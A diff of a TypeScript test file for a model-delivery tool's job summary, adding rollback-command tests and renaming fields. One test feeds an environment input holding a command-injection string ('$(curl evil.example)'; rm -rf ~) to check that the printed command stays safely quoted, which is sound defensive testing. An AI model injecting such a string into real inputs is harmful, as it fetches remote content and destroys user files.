@@ -15,7 +15,7 @@ const result: Result = {
   outcome: 'succeeded',
   reason: 'delivered',
   because: 'churn serves 1.4.0',
-  outputs: { 'endpoint-config': 'churn-1-4-0-1a2b3c4d' },
+  outputs: { 'endpoint-config': 'churn-1-4-0-1a2b3c4d', 'previous-endpoint-config': 'churn-1-3-0-9f8e7d6c' },
   plan: countingPlan,
   dryRun: false,
   startedAt: '2026-01-05T09:00:00Z',
@@ -23,7 +23,7 @@ const result: Result = {
 };
 const report = (change: Partial<Result> = {}, rest: Partial<Report> = {}): Report => ({
   result: { ...result, ...change },
-  asked: { manifest: 'delivery.yml', environment: 'production', version: '1.4.0' },
+  inputs: { manifest: 'delivery.yml', environment: 'production', version: '1.4.0' },
   timeline: [{ at: Date.parse('2026-01-05T09:10:00Z'), percent: 40, because: '1 of 4 instances | canary' }],
   url: 'https://github.com/octo/churn/actions/runs/7',
   remarks: [],
@@ -44,7 +44,7 @@ describe('the job summary', () => {
     expect(markdown).toContain('| update | count | 0 → 3 |');
     expect(markdown).toContain('| 2026-01-05T09:10:00Z | 40 % | 1 of 4 instances \\| canary |');
     expect(markdown).toContain(
-      '### Result\n\n| output | value |\n| --- | --- |\n| `endpoint-config` | churn-1-4-0-1a2b3c4d |',
+      '### Result\n\n| output | value |\n| --- | --- |\n| `endpoint-config` | churn-1-4-0-1a2b3c4d |\n| `previous-endpoint-config` | churn-1-3-0-9f8e7d6c |',
     );
     expect(markdown).toContain('`model-delivery rollback --manifest delivery.yml --environment production`');
     expect(markdown).toContain('[The run](https://github.com/octo/churn/actions/runs/7)');
@@ -105,12 +105,38 @@ describe('the job summary', () => {
         },
       ],
     });
-    const told = (logEvidence: number): string => summaryOf(report({ findings: found(logEvidence) }));
-    expect(told(0)).toContain(
+    const reported = (logEvidence: number): string => summaryOf(report({ findings: found(logEvidence) }));
+    expect(reported(0)).toContain(
       '| 4xx answers | 30 of 900 (3.33 %) | 40 of 8100 (0.494 %) | unknown | 1, not judged | not required |',
     );
-    expect(told(0)).not.toContain('Remark');
-    expect(told(5)).toContain('Remark: 4xx answers, 30 of 900 (3.33 %) beside 40 of 8100 (0.494 %)');
+    expect(reported(0)).not.toContain('Remark');
+    expect(reported(5)).toContain('Remark: 4xx answers, 30 of 900 (3.33 %) beside 40 of 8100 (0.494 %)');
+  });
+
+  const before = { 'previous-version': '1.3.0', 'previous-endpoint-config': 'churn-1-3-0-9f8e7d6c' };
+  const restored = { 'previous-version': '1.4.0', 'previous-endpoint-config': 'churn-1-4-0-1a2b3c4d' };
+  const back = 'model-delivery rollback --manifest delivery.yml --environment production';
+  it.each<[string, Pick<Result, 'operation' | 'reason' | 'outputs'>, string | undefined]>([
+    ['a delivery', { operation: 'deploy-endpoint', reason: 'delivered', outputs: before }, back],
+    ['a shift', { operation: 'shift-traffic', reason: 'delivered', outputs: before }, back],
+    ['a rollback', { operation: 'rollback', reason: 'restored', outputs: restored }, `${back} --to 1.4.0`],
+    [
+      'a rollback from a configuration of others',
+      { operation: 'rollback', reason: 'restored', outputs: { ...restored, 'previous-version': '' } },
+      `${back} --to churn-1-4-0-1a2b3c4d`,
+    ],
+    [
+      'a first deployment',
+      { operation: 'deploy-endpoint', reason: 'delivered', outputs: { 'previous-endpoint-config': '' } },
+      undefined,
+    ],
+    ['nothing done', { operation: 'deploy-endpoint', reason: 'already-delivered', outputs: before }, undefined],
+    ['a registration', { operation: 'register-model', reason: 'registered', outputs: {} }, undefined],
+  ])('names the way to undo %s', (_, change, command) => {
+    const line = summaryOf(report(change))
+      .split('\n')
+      .find((one) => one.startsWith('To undo it'));
+    expect(line).toBe(command && `To undo it: \`${command}\`, or the \`rollback\` action with the same inputs.`);
   });
 
   it('tells every reason with its remedy', () => {
@@ -127,8 +153,8 @@ describe('the job summary', () => {
   });
 
   it('prints a command that stays one, whatever the inputs say', () => {
-    const asked = { manifest: 'a b.yml', environment: '$(curl evil.example)`; rm -rf ~|' };
-    const markdown = summaryOf(report({}, { asked }));
+    const requested = { manifest: 'a b.yml', environment: '$(curl evil.example)`; rm -rf ~|' };
+    const markdown = summaryOf(report({}, { inputs: requested }));
     expect(markdown).toContain(
       "``model-delivery rollback --manifest 'a b.yml' --environment '$(curl evil.example)`; rm -rf ~``\\|`'`",
     );
@@ -158,8 +184,11 @@ describe('a result', () => {
   });
 
   it('leaves names of twelve digits alone, once the account is known', () => {
-    const said = withoutAccount('churn-202601011200 in 111122223333, sagemaker-eu-west-1-111122223333', '111122223333');
-    expect(said).toBe('churn-202601011200 in <account>, sagemaker-eu-west-1-<account>');
+    const reported = withoutAccount(
+      'churn-202601011200 in 111122223333, sagemaker-eu-west-1-111122223333',
+      '111122223333',
+    );
+    expect(reported).toBe('churn-202601011200 in <account>, sagemaker-eu-west-1-<account>');
     expect(withoutAccount('444455556666.dkr.ecr.eu-west-1.amazonaws.com/churn', '111122223333')).not.toContain('4444');
   });
 
